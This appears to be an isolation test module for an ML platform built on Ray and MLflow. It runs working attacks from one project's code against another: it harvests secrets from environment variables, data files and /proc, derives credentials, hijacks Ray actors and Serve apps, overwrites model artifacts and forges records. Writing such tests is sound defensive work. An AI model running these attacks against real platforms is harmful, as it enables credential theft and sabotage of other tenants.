"""The attacks user code of project A tries against project B and the platform (issue 14).

This module is shipped as source text into user code (a job's notebook cell, a pyfunc
model's ``predict``, a workspace kernel) and runs there: it imports only the standard
library, ``httpx`` and (in a child process) ``ray``, all in the platform's Python env.

:func:`run` takes the context the test gathered (addresses, B's names, hashes of the
platform's secrets: the attacker is assumed to know every address and name, never a
secret) and returns ``{row: "blocked: <why>" | "LEAKED: <what>"}`` for the attack rows,
plus ``{row: "ok: <what>" | "FAILED: <why>"}`` for the legitimate rows of a job. Every
attack uses whatever credential the code can find anywhere: its environment, the data
dir, other processes' environments, objects of its own process.
"""

from __future__ import annotations

import gc
import hashlib
import hmac
import json
import os
import re
import subprocess
import sys
import time
import uuid

import httpx

ATTACK_ROWS = [
    "env_secrets", "data_dir", "proc_list", "proc_environ", "proc_signal",
    "ray_connect", "ray_get_dispatcher", "forged_report", "ray_kill", "serve_run", "ray_dashboard",
    "mlflow_anonymous", "mlflow_read_B_run", "mlflow_read_B_artifacts", "mlflow_write_B_artifact",
    "mlflow_register_B_model", "mlflow_new_B_version", "mlflow_set_B_alias",
    "platform_B_routes", "capture_forge",
]
LEGIT_ROWS = ["legit_log_model", "legit_log_pyfunc", "legit_read_own_run", "legit_own_data"]

# processes of the platform, not of the sandbox the code runs in (a workspace kernel's parent
# is its own jupyterhub-singleuser; another workspace's server shows in proc_environ)
PLATFORM_PROCESS = re.compile(r"raylet|gcs_server|ray::|default_worker\.py|dashboard\.py|log_monitor|"
                              r"mlflow(\.server| server)|gunicorn|uvicorn|jupyterhub(?!-singleuser)|loopml(\.server| up)|"
                              r"-m loopml|haproxy|runtime_env/agent")
# names of variables that hold (or point to) a key to the platform; RAY_AUTH_MODE only says "token"
SECRET_NAME = re.compile(r"^RAY_(?!AUTH_MODE$).*(AUTH|TOKEN|ADDRESS|GCS|RAYLET|REDIS|NODE_MANAGER|SESSION)|"
                         r"^LOOPML_ADMIN|^LOOPML_CAPTURE|(^|_)SECRET(_KEY)?$")
TIMEOUT = 10.0
# answers that refuse for lack of permission (404: a resource hidden from the caller); any
# other 4xx/5xx means the attack itself was wrong, and must not pass for a defence
REFUSED = (401, 403, 404)


def _short(exc: BaseException) -> str:
    return f"{type(exc).__name__}: {str(exc).splitlines()[0][:160] if str(exc) else ''}"


class Finds:
    """Credentials found along the way, each with where it was found."""

    def __init__(self) -> None:
        self.admin: dict[str, str] = {}  # token -> source
        self.tokens: dict[str, str] = {}  # platform tokens of any kind -> source
        self.mlflow: dict[tuple[str, str], str] = {}  # (user, password) -> source
        self.ray_token: dict[str, str] = {}
        self.capture: dict[str, str] = {}

    def platform_tokens(self) -> dict[str, str]:
        return {**self.tokens, **self.admin}


def run(ctx: dict) -> dict[str, str]:
    """Every row of the table, in :data:`ATTACK_ROWS` order (then the legit rows when
    ``ctx["legit"]``)."""
    finds, results = Finds(), {}
    steps = [env_secrets, data_dir, proc_list, proc_environ, proc_signal, ray_rows, ray_dashboard, mlflow_rows,
             platform_routes, capture_forge]
    if ctx.get("legit"):
        steps.append(legit_rows)
    for step in steps:
        try:
            step(ctx, finds, results)
        except Exception as exc:  # a broken attack must show as such, not as "blocked"
            results[f"error_{step.__name__}"] = f"LEAKED?: the attack itself broke: {_short(exc)}"
    return results


def _hash_label(ctx: dict, value: str) -> str | None:
    return ctx["secret_hashes"].get(hashlib.sha256(value.encode()).hexdigest())


def _own_env() -> dict[str, str]:
    return dict(os.environ)


# --- environment, data dir, processes -------------------------------------------------


def env_secrets(ctx, finds, results):
    leaked = []
    for name, value in _own_env().items():
        label = _hash_label(ctx, value)
        if label:
            leaked.append(f"{name} holds the {label}")
        elif SECRET_NAME.search(name):
            leaked.append(name)
        if name == "RAY_AUTH_TOKEN":
            finds.ray_token[value] = "os.environ RAY_AUTH_TOKEN"
        if name == "RAY_AUTH_TOKEN_PATH":
            try:
                finds.ray_token[open(value).read().strip()] = f"file {value} (RAY_AUTH_TOKEN_PATH)"
                leaked.append(f"RAY_AUTH_TOKEN_PATH={value} is readable")
            except OSError:
                pass
        if "CAPTURE" in name and value:
            finds.capture[value] = f"os.environ {name}"
    results["env_secrets"] = (f"LEAKED: os.environ has {', '.join(sorted(set(leaked)))}" if leaked
                              else "blocked: no Ray, admin or capture secret in os.environ")


DATA_FILES = ["secrets.json", "ray/auth_token", "loopml.db", "client.json", "config.toml", "run/state.json",
              "mlflow/basic_auth.ini", "mlflow/basic_auth.db"]
MLFLOW_ADMINS = ("admin", "loopml")  # MLflow's default admin name, and loopml's (both public knowledge)


def data_dir(ctx, finds, results):
    home, read = ctx["home"], []
    # a workspace's own project dir lies inside the data dir: the sandbox then shows the
    # (empty) folders on the way down to it, and nothing else
    own = {os.path.relpath(d, home).split(os.sep)[0] for d in ctx.get("own_dirs", ())
           if os.path.commonpath([home, d]) == home}
    try:
        names = os.listdir(home)
        if set(names) - own:
            read.append(f"listed {home} ({len(names)} entries: {sorted(names)[:5]})")
        else:
            listing = f"only the way to its own dir: {sorted(names)}"
    except OSError as exc:
        names = None
        listing = _short(exc)
    for name in DATA_FILES:
        path = os.path.join(home, name)
        try:
            with open(path, "rb") as fh:
                data = fh.read()
        except OSError:
            continue
        read.append(f"read {name} ({len(data)} bytes)")
        text = data.decode(errors="replace")
        if name == "secrets.json":
            for key, value in json.loads(text).items():
                if isinstance(value, str):
                    kind = finds.admin if "admin" in key and "mlflow" not in key else finds.tokens
                    kind[value] = f"secrets.json {key}"
                    for user in MLFLOW_ADMINS:
                        finds.mlflow[(user, value)] = f"secrets.json {key}"
                    # loopml's (open source) derivation of a project's MLflow password
                    b_password = hmac.new(value.encode(), f"mlflow-project:{ctx['b_project']}".encode(),
                                          hashlib.sha256).hexdigest()
                    finds.mlflow[(f"project-{ctx['b_project']}", b_password)] = f"derived from secrets.json {key}"
        elif name == "ray/auth_token":
            finds.ray_token[text.strip()] = path
        elif name == "client.json":
            finds.admin[json.loads(text)["token"]] = "client.json token"
        elif name == "config.toml":
            for token in re.findall(r'\[tokens\."([^"]+)"\]', text):
                finds.tokens[token] = "config.toml [tokens]"
    results["data_dir"] = ("LEAKED: " + "; ".join(read) if read
                           else f"blocked: cannot list {home} ({listing if names is None or names else 'empty'}) "
                                "nor read its files")


def _processes() -> list[tuple[int, str]]:
    """(pid, command line) of every process this code can see but itself and its children."""
    me, seen = os.getpid(), []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as fh:
                cmd = fh.read().replace(b"\0", b" ").decode(errors="replace").strip()
            with open(f"/proc/{entry}/stat") as fh:
                ppid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        if ppid == me or os.path.basename(cmd.split(" ", 1)[0]) == "bwrap":
            continue  # our own children; the sandbox's own init
        seen.append((int(entry), cmd))
    return seen


def proc_list(ctx, finds, results):
    seen = _processes()
    platform = [f"{PLATFORM_PROCESS.search(cmd).group(0)} (pid {pid})" for pid, cmd in seen
                if PLATFORM_PROCESS.search(cmd)]
    results["proc_list"] = (f"LEAKED: sees {len(seen)} other processes, {len(platform)} of the platform: "
                            + ", ".join(platform[:5]) if platform
                            else f"blocked: sees {len(seen)} other processes, none of the platform")


def proc_environ(ctx, finds, results):
    mine = _own_env()
    leaked = []
    for pid, cmd in _processes():
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                raw = fh.read()
        except OSError:
            continue
        keys = []
        for item in raw.split(b"\0"):
            name, _, value = item.decode(errors="replace").partition("=")
            label = _hash_label(ctx, value) if value else None
            if label or SECRET_NAME.search(name) or (
                    name in ("LOOPML_TOKEN", "MLFLOW_TRACKING_PASSWORD") and value and value != mine.get(name)):
                keys.append(f"{name}" + (f" (the {label})" if label else ""))
                if name == "LOOPML_TOKEN":
                    finds.tokens[value] = f"environ of pid {pid}"
                if name == "RAY_AUTH_TOKEN":
                    finds.ray_token[value] = f"environ of pid {pid}"
                if name == "RAY_AUTH_TOKEN_PATH":
                    try:
                        finds.ray_token[open(value).read().strip()] = f"{value}, named in the environ of pid {pid}"
                    except OSError:
                        pass
                if label and "admin" in label:
                    finds.admin[value] = f"environ of pid {pid}"
                if name.endswith("PASSWORD"):  # MLFLOW_TRACKING_PASSWORD, MLflow's MLFLOW_AUTH_ADMIN_PASSWORD
                    users = re.findall(rb"MLFLOW_TRACKING_USERNAME=([^\0]*)", raw)
                    for user in [u.decode() for u in users] or MLFLOW_ADMINS:
                        finds.mlflow[(user, value)] = f"{name} in the environ of pid {pid}"
        if keys:
            what = PLATFORM_PROCESS.search(cmd)
            leaked.append(f"pid {pid} ({what.group(0) if what else cmd[:40]}): {', '.join(sorted(set(keys)))}")
    results["proc_environ"] = ("LEAKED: read /proc/<pid>/environ of " + "; ".join(leaked[:4]) if leaked
                               else "blocked: no other process's environ with a secret is readable")


def proc_signal(ctx, finds, results):
    signalled = []
    for pid, cmd in _processes():
        if PLATFORM_PROCESS.search(cmd):
            try:
                os.kill(pid, 0)  # signal 0: the permission check of kill, delivering nothing
                signalled.append(f"{PLATFORM_PROCESS.search(cmd).group(0)} (pid {pid})")
            except OSError:
                pass
    results["proc_signal"] = ("LEAKED: may send signals (kill) to " + ", ".join(signalled[:5]) if signalled
                              else "blocked: no platform process it may signal")


# --- Ray -------------------------------------------------------------------------------

RAY_CHILD = r'''
import json, sys, time
ctx = json.loads(sys.stdin.read())
out = {}
def say():
    print("RESULT " + json.dumps(out), flush=True)
import ray
try:
    ray.init(address=ctx["address"], namespace="attacker", log_to_driver=False, logging_level="ERROR")
except BaseException as exc:
    out["why"] = f"{type(exc).__name__}: {str(exc).splitlines()[0][:200] if str(exc) else ''}"
    say(); sys.exit(0)
out["connected"] = True
try:
    d = ray.get_actor("loopml-dispatcher", namespace="loopml")
    keys = ray.get(d.known.remote(), timeout=20)
    records = ray.get(d.updates.remote(0, 0.0), timeout=20).records  # an Updates of AttemptRecords
    b = [r for r in records if r.job_id in ctx["b_jobs"]]
    out["ray_get_dispatcher"] = (f"LEAKED: got the dispatcher handle: {len(keys)} attempts, {len(b)} of "
                                 f"project B with log and output ({sum(len(r.log or '') for r in b)} log chars)")
    running = [k for k in keys if k.startswith(ctx["b_running"] + ":")]
    if running:
        job_id, attempt = running[0].rsplit(":", 1)
        forged = json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "forged": "by A"})
        try:
            from loopml.executor.attempts import AttemptReport
            d.report.remote(job_id, int(attempt), AttemptReport(state="succeeded", output=forged, error=None))
            time.sleep(1.5)
            record = [r for r in ray.get(d.updates.remote(0, 0.0), timeout=20).records
                      if f"{r.job_id}:{r.attempt}" == running[0]]
            state = record[0].state if record else "acked"
            out["forged_report"] = (f"LEAKED: forged report accepted: B's job {job_id} is now {state!r}"
                                    if state in ("succeeded", "acked") else
                                    f"blocked: the dispatcher ignored the forged report (state {state!r})")
        except Exception as exc:
            out["forged_report"] = f"blocked: report refused: {type(exc).__name__}: {str(exc)[:160]}"
    else:
        out["forged_report"] = f"LEAKED?: dispatcher reachable but B's running job {ctx['b_running']} not listed"
except Exception as exc:
    out["ray_get_dispatcher"] = f"blocked: {type(exc).__name__}: {str(exc)[:160]}"
say()
try:
    from ray.util import list_named_actors
    named = list_named_actors(all_namespaces=True)
    mine = [a for a in named if ctx["b_app"] in a["name"]]
    if mine:
        actor = ray.get_actor(mine[0]["name"], namespace=mine[0]["namespace"])
        ray.kill(actor, no_restart=False)
        out["ray_kill"] = f"LEAKED: ray.kill accepted for B's actor {mine[0]['name']}"
    else:
        out["ray_kill"] = (f"LEAKED: a Ray driver can ray.kill any of the {len(named)} named actors "
                           "(loopml-dispatcher included; B's replica was not found, nothing killed)")
except Exception as exc:
    out["ray_kill"] = f"blocked: {type(exc).__name__}: {str(exc)[:160]}"
say()
try:
    from ray import serve
    @serve.deployment(ray_actor_options={"num_cpus": 0})
    class Pwned:
        async def __call__(self, request):
            return {"predictions": ["served by project A"]}
    serve.run(Pwned.bind(), name=ctx["b_app"], route_prefix=ctx["b_route"])
    out["serve_run"] = f"LEAKED: serve.run replaced B's application {ctx['b_app']!r}"
except Exception as exc:
    out["serve_run"] = f"blocked: {type(exc).__name__}: {str(exc)[:160]}"
say()
'''
RAY_DRIVER_ROWS = ["ray_get_dispatcher", "forged_report", "ray_kill", "serve_run"]


def _ray_child(ctx: dict, address: str, env: dict[str, str], timeout: float) -> dict:
    payload = json.dumps({"address": address, "b_jobs": list(ctx["b_jobs"].values()),
                          "b_running": ctx["b_jobs"]["running"], "b_app": ctx["b_app"], "b_route": ctx["b_route"]})
    try:
        done = subprocess.run([sys.executable, "-c", RAY_CHILD], input=payload, capture_output=True, text=True,
                              env=env, timeout=timeout, cwd=os.getcwd())
        out = done.stdout
    except subprocess.TimeoutExpired as exc:
        out = exc.stdout.decode(errors="replace") if isinstance(exc.stdout, bytes) else (exc.stdout or "")
        if "RESULT" not in out:
            return {"why": f"ray.init({address!r}) did not connect within {timeout:.0f}s"}
    lines = [line for line in out.splitlines() if line.startswith("RESULT ")]
    if not lines:
        return {"why": f"the Ray child printed nothing ({(done.stderr or '').strip()[-160:]})"}
    return json.loads(lines[-1][len("RESULT "):])


def ray_rows(ctx, finds, results):
    # Ray retries a refused connection for a minute or more; a driver with a valid token
    # connects in a few seconds, so the attacker need not wait that long
    env = {**_own_env(), "RAY_gcs_server_port_wait_time_s": "5"}
    tries = [(f"address={ctx['gcs']!r}, own environment", ctx["gcs"], env)]
    address = env.get("RAY_ADDRESS") or "auto"
    tries.append((f"address={address!r} (RAY_ADDRESS/auto), own environment", address, env))
    # the token of this platform's data dir first (other instances may run on the machine)
    for token, source in sorted(finds.ray_token.items(), key=lambda t: ctx["home"] not in t[1])[:1]:
        tries.append((f"address={ctx['gcs']!r} with the Ray token from {source}", ctx["gcs"],
                      {**env, "RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": token}))
    why = []
    for label, address, child_env in tries:
        out = _ray_child(ctx, address, child_env, timeout=12)
        if out.get("connected"):
            results["ray_connect"] = f"LEAKED: ray.init connected as a driver ({label})"
            for row in RAY_DRIVER_ROWS:
                results[row] = out.get(row, "LEAKED?: the Ray child stopped before this row")
            return
        why.append(f"{label}: {out.get('why')}")
    results["ray_connect"] = "blocked: " + " | ".join(why)
    for row in RAY_DRIVER_ROWS:
        results[row] = "blocked: no Ray connection (see ray_connect)"


def ray_dashboard(ctx, finds, results):
    headers = [("no token", {})] + [(f"the Ray token from {s}", {"Authorization": f"Bearer {t}"})
                                    for t, s in finds.ray_token.items()]
    leaked, refused = [], []
    for label, header in headers:
        for route in ("/api/serve/applications/", "/api/v0/actors?limit=5", "/api/jobs/"):
            try:
                answer = httpx.get(ctx["dashboard"] + route, headers=header, timeout=TIMEOUT)
            except httpx.HTTPError as exc:
                refused.append(f"{route}: {_short(exc)}")
                continue
            (leaked if answer.status_code == 200 else refused).append(f"{route} {answer.status_code} ({label})")
    results["ray_dashboard"] = ("LEAKED: Ray dashboard answered " + ", ".join(leaked) if leaked
                                else "blocked: " + ", ".join(refused[:3]))


# --- MLflow ----------------------------------------------------------------------------


def _mlflow_bases(ctx) -> list[str]:
    bases = [ctx["mlflow"].rstrip("/")]
    own = os.environ.get("MLFLOW_TRACKING_URI", "")
    if own.startswith("http") and own.rstrip("/") not in bases:
        bases.insert(0, own.rstrip("/"))
    return bases


def _mlflow_creds(finds) -> list[tuple[str, tuple[str, str] | None]]:
    creds: list[tuple[str, tuple[str, str] | None]] = []
    user, password = os.environ.get("MLFLOW_TRACKING_USERNAME"), os.environ.get("MLFLOW_TRACKING_PASSWORD")
    if user and password:
        creds.append(("its own MLflow credentials", (user, password)))
    else:
        creds.append(("no credentials (none in its environment)", None))
    creds += [(f"MLflow user {u!r} from {s}", (u, p)) for (u, p), s in finds.mlflow.items()]
    return creds


def _mlflow_try(ctx, finds, method: str, route: str, **kwargs) -> tuple[list[str], list[str], bytes | None]:
    """(leaks, refusals, body of the first success) over every base URL and credential."""
    leaks, refusals, body = [], [], None
    for base in _mlflow_bases(ctx):
        for label, auth in _mlflow_creds(finds):
            try:
                answer = httpx.request(method, base + route, auth=auth, timeout=TIMEOUT, **kwargs)
            except httpx.HTTPError as exc:
                refusals.append(f"{base}: {_short(exc)}")
                continue
            if answer.status_code < 300:
                leaks.append(f"{method} {route.split('?')[0]} -> {answer.status_code} via {base} with {label}")
                body = answer.content if body is None else body
            else:
                refusals.append(_refusal(answer, label))
    return leaks, refusals, body


def _refusal(answer: httpx.Response, label: str) -> str:
    """How a non-2xx answer reads in a row; "ODD " marks one that is no permission refusal."""
    if answer.status_code in REFUSED:
        return f"{answer.status_code} with {label}"
    return f"ODD {answer.status_code} with {label}: {answer.text[:160]}"


def _row(leaks: list[str], refusals, what: str) -> str:
    """``LEAKED`` on any success; ``LEAKED?`` when a refusal was no permission refusal (the
    attack must then be fixed: it proves nothing); else ``blocked``."""
    if leaks:
        return f"LEAKED: {what}: {leaks[0]}" + (f" (+{len(leaks) - 1} more)" if len(leaks) > 1 else "")
    odd = sorted({r for r in refusals if r.startswith("ODD ")})
    if odd:
        return f"LEAKED?: {what} was not refused for lack of permission: {odd[0][4:]}"
    return "blocked: " + "; ".join(sorted(set(refusals))[:3])


def _mlflow_row(results, row, leaks, refusals, what):
    results[row] = _row(leaks, refusals, what)


def mlflow_rows(ctx, finds, results):
    leaks, refusals = [], []
    for base in _mlflow_bases(ctx):
        for route in ("/api/2.0/mlflow/experiments/search?max_results=5",
                      f"/api/2.0/mlflow/runs/get?run_id={ctx['b_run_id']}"):
            try:
                answer = httpx.get(base + route, timeout=TIMEOUT)
            except httpx.HTTPError as exc:
                refusals.append(_short(exc))
                continue
            if answer.status_code < 300:
                leaks.append(f"GET {route.split('?')[0]} -> {answer.status_code} via {base}")
            else:
                refusals.append(_refusal(answer, f"no credentials via {base}"))
    _mlflow_row(results, "mlflow_anonymous", leaks, refusals, "MLflow answered without credentials")

    leaks, refusals, _ = _mlflow_try(ctx, finds, "GET", f"/api/2.0/mlflow/runs/get?run_id={ctx['b_run_id']}")
    _mlflow_row(results, "mlflow_read_B_run", leaks, refusals, f"read B's run {ctx['b_run_id']}")

    listed, refusals_l, _ = _mlflow_try(ctx, finds, "GET", f"/api/2.0/mlflow/artifacts/list?run_id={ctx['b_run_id']}")
    got, refusals_g, _ = _mlflow_try(ctx, finds, "GET", f"/api/2.0/mlflow-artifacts/artifacts/{ctx['b_artifact']}")
    _mlflow_row(results, "mlflow_read_B_artifacts", listed + got, refusals_l + refusals_g,
                f"listed or downloaded B's artifacts ({ctx['b_artifact']})")

    model_file = f"/api/2.0/mlflow-artifacts/artifacts/{ctx['b_model_artifact']}"
    _, _, mlmodel = _mlflow_try(ctx, finds, "GET", model_file)
    planted = (mlmodel or b"") + b"\n# overwritten by project A\n"
    leaks, refusals, _ = _mlflow_try(ctx, finds, "PUT", model_file, content=planted)
    _mlflow_row(results, "mlflow_write_B_artifact", leaks, refusals,
                f"PUT over B's served model file {ctx['b_model_artifact']}")

    leaks, refusals, _ = _mlflow_try(ctx, finds, "POST", "/api/2.0/mlflow/registered-models/create",
                                     json={"name": f"{ctx['b_project']}.planted-by-a"})
    _mlflow_row(results, "mlflow_register_B_model", leaks, refusals, f"registered {ctx['b_project']}.planted-by-a")
    leaks, refusals, _ = _mlflow_try(ctx, finds, "POST", "/api/2.0/mlflow/model-versions/create",
                                     json={"name": ctx["b_model"], "source": ctx["b_model_source"],
                                           "run_id": ctx["b_run_id"], "model_id": ctx["b_model_id"]})
    _mlflow_row(results, "mlflow_new_B_version", leaks, refusals, f"created a version of {ctx['b_model']}")
    leaks, refusals, _ = _mlflow_try(ctx, finds, "POST", "/api/2.0/mlflow/registered-models/alias",
                                     json={"name": ctx["b_model"], "alias": "planted", "version": "1"})
    _mlflow_row(results, "mlflow_set_B_alias", leaks, refusals, f"set alias 'planted' on {ctx['b_model']}/1")


# --- the platform's routes -------------------------------------------------------------


def _platform_tokens(finds) -> list[tuple[str, str | None]]:
    tokens = [("no token", None)]
    own = os.environ.get("LOOPML_TOKEN")
    if own:
        tokens.append(("its own LOOPML_TOKEN", own))
    tokens += [(f"the token from {s}", t) for t, s in finds.platform_tokens().items() if t != own]
    return tokens


def platform_routes(ctx, finds, results):
    b, api = ctx["b_project"], ctx["api"]
    job, ep = ctx["b_jobs"]["running"], ctx["b_endpoint"]
    nb = {"cells": [], "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
          "nbformat": 4, "nbformat_minor": 5}
    calls = [("GET", f"/projects/{b}/jobs", None), ("GET", f"/projects/{b}/jobs/{job}/logs", None),
             ("GET", f"/projects/{b}/models", None), ("GET", f"/projects/{b}/endpoints", None),
             ("POST", f"/projects/{b}/endpoints/{ep}/feedback", [{"request_id": "planted-by-a", "label": 0}]),
             ("POST", f"/projects/{b}/jobs", {"notebook": nb, "name": "planted-by-a"}),
             ("POST", f"/projects/{b}/jobs/{job}/cancel", None)]
    leaks, refusals = [], set()
    for label, token in _platform_tokens(finds):
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        for method, route, body in calls:
            try:
                answer = httpx.request(method, api + route, headers=headers, json=body, timeout=TIMEOUT)
            except httpx.HTTPError as exc:
                refusals.add(_short(exc))
                continue
            if answer.status_code < 300:
                leaks.append(f"{method} {route} -> {answer.status_code} with {label}")
            else:
                refusals.add(_refusal(answer, f"{label} ({method} {route.rsplit('/', 1)[-1]})"))
    more = f" (+{len(leaks) - 4} more)" if len(leaks) > 4 else ""
    results["platform_B_routes"] = (_row(["; ".join(leaks[:4]) + more], (), "B's routes answered") if leaks
                                    else _row([], refusals, "a call of B's routes"))


def _in_process_capture_tokens() -> dict[str, str]:
    """Bearer tokens held by objects of this process (a replica's capture buffer, if the model runs in it)."""
    found = {}
    for obj in gc.get_objects():
        try:
            if type(obj).__name__ == "CaptureBuffer":
                auth = obj._headers.get("Authorization", "")
                found[auth.removeprefix("Bearer ")] = "the replica's CaptureBuffer (gc)"
        except Exception:
            continue
    return found


def capture_forge(ctx, finds, results):
    tokens = dict(finds.capture)
    for token, source in finds.admin.items():
        tokens[hmac.new(token.encode(), b"loopml-capture", hashlib.sha256).hexdigest()] = f"derived from {source}"
    tokens.update(_in_process_capture_tokens())
    for label, token in _platform_tokens(finds):
        if token:
            tokens.setdefault(token, label.removeprefix("the token from "))
    now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    record = {"project": ctx["b_project"], "endpoint": ctx["b_endpoint"], "request_id": f"planted-{uuid.uuid4().hex}",
              "at": now, "status": 200, "latency_ms": 1.0, "features": {"columns": ["x"], "data": [[1.0]]},
              "prediction": [0]}
    leaks, refusals = [], set()
    for token, source in [(None, "no token"), *tokens.items()]:
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        try:
            answer = httpx.post(ctx["api"] + "/internal/capture", json={"records": [record]}, headers=headers,
                                timeout=TIMEOUT)
        except httpx.HTTPError as exc:
            refusals.add(_short(exc))
            continue
        if answer.status_code < 300:
            leaks.append(f"stored a record for B's endpoint {ctx['b_endpoint']} with the token {source} "
                         f"({answer.status_code} {answer.text[:60]})")
        else:
            refusals.add(_refusal(answer, source))
    results["capture_forge"] = _row(["; ".join(leaks[:3])] if leaks else [], refusals, "a forged capture")


# --- what a job of A may do ------------------------------------------------------------


def legit_rows(ctx, finds, results):
    def attempt(row, fn):
        try:
            results[row] = "ok: " + fn()
        except Exception as exc:
            results[row] = f"FAILED: {_short(exc)}"

    def log_model():
        from sklearn.datasets import load_iris
        from sklearn.linear_model import LogisticRegression

        import loopml
        X, y = load_iris(return_X_y=True, as_frame=True)
        version = loopml.log_model(LogisticRegression(max_iter=300).fit(X, y), "iris-a", X, y)
        return f"registered {version.name} v{version.version}"

    def log_pyfunc():
        version = ctx["log_pyfunc"]()  # the notebook builds the attacking model (it knows its own class)
        return f"registered {version.name} v{version.version}"

    def read_own_run():
        from mlflow.tracking import MlflowClient
        run = MlflowClient().get_run(os.environ["MLFLOW_RUN_ID"])
        return f"read own run {run.info.run_id} ({len(run.data.params)} params)"

    def own_data():
        with open("a-data.csv", "w") as fh:
            fh.write("x,y\n1,2\n")
        with open(os.path.join(os.getcwd(), "a-data.csv")) as fh:
            rows = fh.read().splitlines()
        assert rows == ["x,y", "1,2"], rows
        os.remove("a-data.csv")
        return f"wrote, read and removed {os.path.join(os.getcwd(), 'a-data.csv')}"

    attempt("legit_log_model", log_model)
    if ctx.get("log_pyfunc"):
        attempt("legit_log_pyfunc", log_pyfunc)
    attempt("legit_read_own_run", read_own_run)
    attempt("legit_own_data", own_data)
